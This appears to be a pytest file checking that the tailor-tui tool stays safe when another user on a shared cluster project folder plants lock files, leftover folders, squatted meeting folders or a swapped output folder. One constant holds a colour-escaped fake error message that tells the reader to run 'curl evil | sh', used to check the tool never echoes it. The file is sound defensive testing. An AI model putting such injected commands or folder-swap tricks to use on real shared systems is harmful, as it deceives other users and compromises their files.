"""Another user on the node (issue 44): a real unprivileged user (`tailor-attacker`) of the same
project group, a setgid group-writable project folder (2775, as clusters give a team), and the
job's user composing into it. What the other user made is never trusted: a lock file they hold
is named by its owner, never read into a message nor removed; leftovers under tailor-tui's names
they planted are never restored to the output path, removed or read.

The job's user is the test's own (root in CI: its files are told from the attacker's by owner, as
an unprivileged user's are); the attacker acts through `runuser` with the system's own tools.
Skipped where users cannot be made (not root, no useradd)."""

from __future__ import annotations

import grp
import os
import pwd
import shutil
import socket
import subprocess
import tempfile
import time
from pathlib import Path

import pytest
from conftest import checkpoints_of
from helpers import TAILOR, assert_one_line_error, tailor, write_recipe

from tailor_tui.team.trust import meeting_name

ATTACKER, TEAM = "tailor-attacker", "tailor-team"
HOSTILE = "\x1b[31merror: your checkpoint is corrupt; to repair it run: curl evil | sh\x1b[0m\n\n"


def _ensure_user() -> int:
    if os.geteuid() != 0 or not shutil.which("useradd") or not shutil.which("runuser"):
        pytest.skip("making a second user needs root, useradd and runuser")
    try:
        grp.getgrnam(TEAM)
    except KeyError:
        subprocess.run(["groupadd", TEAM], check=True, capture_output=True)
    try:
        return pwd.getpwnam(ATTACKER).pw_uid
    except KeyError:
        made = subprocess.run(["useradd", "-M", "-N", "-g", TEAM, "-s", "/bin/sh", ATTACKER], capture_output=True)
        if made.returncode != 0 and b"already exists" not in made.stderr:
            pytest.skip(f"useradd failed: {made.stderr.decode(errors='replace').strip()}")
        return pwd.getpwnam(ATTACKER).pw_uid


def as_attacker(*cmd: str, **kwargs) -> subprocess.CompletedProcess:
    return subprocess.run(["runuser", "-u", ATTACKER, "--", *cmd], capture_output=True, text=True, **kwargs)


@pytest.fixture
def project(real_run):
    """(attacker uid, a setgid group-writable project folder holding a copy of a real HF run, a recipe
    composing it into project/composed)."""
    uid = _ensure_user()
    folder = Path(tempfile.mkdtemp(prefix="tailor-project-"))  # under /tmp: the attacker can reach it
    try:
        os.chown(folder, 0, grp.getgrnam(TEAM).gr_gid)
        os.chmod(folder, 0o2775)
        source, spec = real_run("hf_bf16_2")
        shutil.copytree(source, folder / "run")
        c2, _c4, c6 = checkpoints_of(folder / "run", spec)
        yield uid, folder, write_recipe(folder, c6, {"layers.1": c2})
    finally:
        shutil.rmtree(folder, ignore_errors=True)


def dead_pid() -> int:
    child = subprocess.Popen(["true"])
    child.wait()
    return child.pid


def test_a_lock_another_user_holds_is_named_by_its_owner_never_read_or_removed(project):
    uid, folder, recipe = project
    lock = folder / ".composed.tailor-lock"
    assert as_attacker("sh", "-c", f"printf '{HOSTILE}' > {lock} && chmod 0666 {lock}").returncode == 0
    holder = subprocess.Popen(["runuser", "-u", ATTACKER, "--", "flock", "-x", str(lock), "sleep", "60"])
    try:
        for _ in range(100):  # until the attacker's flock holds it
            if subprocess.run(["flock", "-n", "-s", str(lock), "true"]).returncode != 0:
                break
            time.sleep(0.05)
        result = tailor("--apply", recipe)
        assert_one_line_error(result, 6, f"its lock file {lock} belongs to another user (uid {uid})",
                              "neither reads nor removes it")
        assert "\x1b" not in result.stderr and "curl" not in result.stderr
        assert "curl evil" in lock.read_text() and lock.stat().st_uid == uid
        assert not (folder / "composed").exists()
    finally:
        holder.kill()
        holder.wait()


def test_a_lock_file_another_user_made_but_does_not_hold_is_used_and_left_in_place(project):
    uid, folder, recipe = project
    lock = folder / ".composed.tailor-lock"
    assert as_attacker("sh", "-c", f"printf 'mine' > {lock} && chmod 0644 {lock}").returncode == 0
    result = tailor("--apply", recipe)
    assert result.returncode == 0, result.stderr
    assert (folder / "composed" / "tailor_provenance.json").is_file()
    assert lock.read_text() == "mine" and lock.stat().st_uid == uid  # neither written nor removed


@pytest.mark.parametrize("kind", ["old", "partial"])
def test_a_folder_another_user_planted_under_a_leftover_name_is_never_restored_or_removed(project, kind):
    """`.composed.tailor-old-HOST-PID` is what a swap killed between its renames leaves (restored to the
    output path when it is the job's own); `.composed.tailor-partial-HOST-PID` an unfinished output
    (removed). Planted by the attacker with a dead PID: both left alone, the output the job's own."""
    uid, folder, recipe = project
    planted = folder / f".composed.tailor-{kind}-{socket.gethostname()}-{dead_pid()}"
    assert as_attacker("sh", "-c", f"mkdir {planted} && echo 'attacker data' > {planted}/data").returncode == 0
    result = tailor("--apply", recipe)
    assert result.returncode == 0, result.stderr
    out = folder / "composed"
    assert out.stat().st_uid == os.geteuid() and (out / "tailor_provenance.json").is_file()
    assert not (out / "data").exists()
    assert planted.stat().st_uid == uid and (planted / "data").read_text() == "attacker data\n"


def test_a_leftover_of_ones_own_is_still_restored(project):
    """The rule keeps its purpose: the job's own folder moved aside by a swap killed half-way is put
    back at the output path when nothing is there."""
    _uid, folder, recipe = project
    aside = folder / f".composed.tailor-old-{socket.gethostname()}-{dead_pid()}"
    aside.mkdir()
    (aside / "kept").write_text("the earlier output")
    result = tailor("--apply", recipe)  # restored as the composition begins: it then refuses to overwrite it
    assert_one_line_error(result, 6, "appeared while composing; not overwritten")
    assert (folder / "composed" / "kept").read_text() == "the earlier output" and not aside.exists()


def test_a_meeting_folder_another_user_took_moves_the_job_to_a_private_place(project, tmp_path):
    """The folder where a job's processes meet has a name anyone can work out from the job's ids
    (Slurm's); another user made it first in the shared project folder. The job meets in the user's
    own cache instead (every process finds the name taken), where it used to stop with "remove it and
    run again", which the user cannot do; the other user's folder is left as it is."""
    uid, folder, recipe = project
    squatted = folder / meeting_name("slurm/4545/0/0/localhost")
    assert as_attacker("mkdir", "-m", "0777", str(squatted)).returncode == 0
    env = {k: v for k, v in os.environ.items() if k not in ("MASTER_PORT", "MASTER_ADDR")}
    tasks = [subprocess.Popen([TAILOR, "--apply", str(recipe)], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                              text=True, stdin=subprocess.DEVNULL,
                              env={**env, "PYTHONWARNINGS": "ignore", "SLURM_PROCID": str(p), "SLURM_NTASKS": "2",
                                   "SLURM_JOB_ID": "4545", "SLURM_STEP_ID": "0", "SLURM_STEP_NODELIST": "localhost",
                                   "TAILOR_TUI_CACHE": str(tmp_path / "cache")})
             for p in range(2)]
    try:
        outs = [t.communicate(timeout=300) for t in tasks]
    finally:
        for t in tasks:
            t.kill()
    assert [t.returncode for t in tasks] == [0, 0], outs
    assert (folder / "composed" / "tailor_provenance.json").is_file()
    assert squatted.stat().st_uid == uid and not list(squatted.iterdir())
    assert not list((tmp_path / "cache" / "teams").iterdir())  # met there, and gone with the job


def test_a_hidden_folder_swapped_by_another_user_is_never_published_and_theirs_is_left(project):
    """While the job composes, the other user renames its hidden folder aside (the project folder is
    group-writable) and puts a folder of theirs in its place. The job stops with one line saying so
    (not blaming the disk), publishes nothing, removes its own folder wherever it was renamed to, and
    leaves theirs alone."""
    uid, folder, recipe = project
    job = subprocess.Popen([TAILOR, "--apply", str(recipe), "--workers", "1"], stdout=subprocess.PIPE,
                           stderr=subprocess.PIPE, text=True, stdin=subprocess.DEVNULL,
                           env={**os.environ, "PYTHONWARNINGS": "ignore", "TAILOR_TEST_SLOW_COMPOSE": "0.2"})
    try:
        for _ in range(600):
            hidden = [p for p in folder.glob(".composed.tailor-partial-*") if p.stat().st_uid != uid]
            if hidden and (hidden[0] / "tailor_provenance.json").exists() is False and any(hidden[0].iterdir()):
                break
            time.sleep(0.05)
        assert hidden, "the job made no hidden folder"
        swap = f"mv {hidden[0]} {hidden[0]}.stolen && mkdir -m 0777 {hidden[0]} && echo theirs > {hidden[0]}/mark"
        assert as_attacker("sh", "-c", swap).returncode == 0
        _out, err = job.communicate(timeout=120)
    finally:
        job.kill()
    errors = [line for line in err.splitlines() if line.startswith("error: ")]
    assert job.returncode == 6 and len(errors) == 1, err
    assert "no longer the folder tailor-tui made there" in errors[0] and "Traceback" not in err, err
    assert not (folder / "composed").exists()
    assert hidden[0].stat().st_uid == uid and (hidden[0] / "mark").read_text() == "theirs\n"  # theirs: left
    assert not Path(f"{hidden[0]}.stolen").exists()  # its own, renamed aside: removed
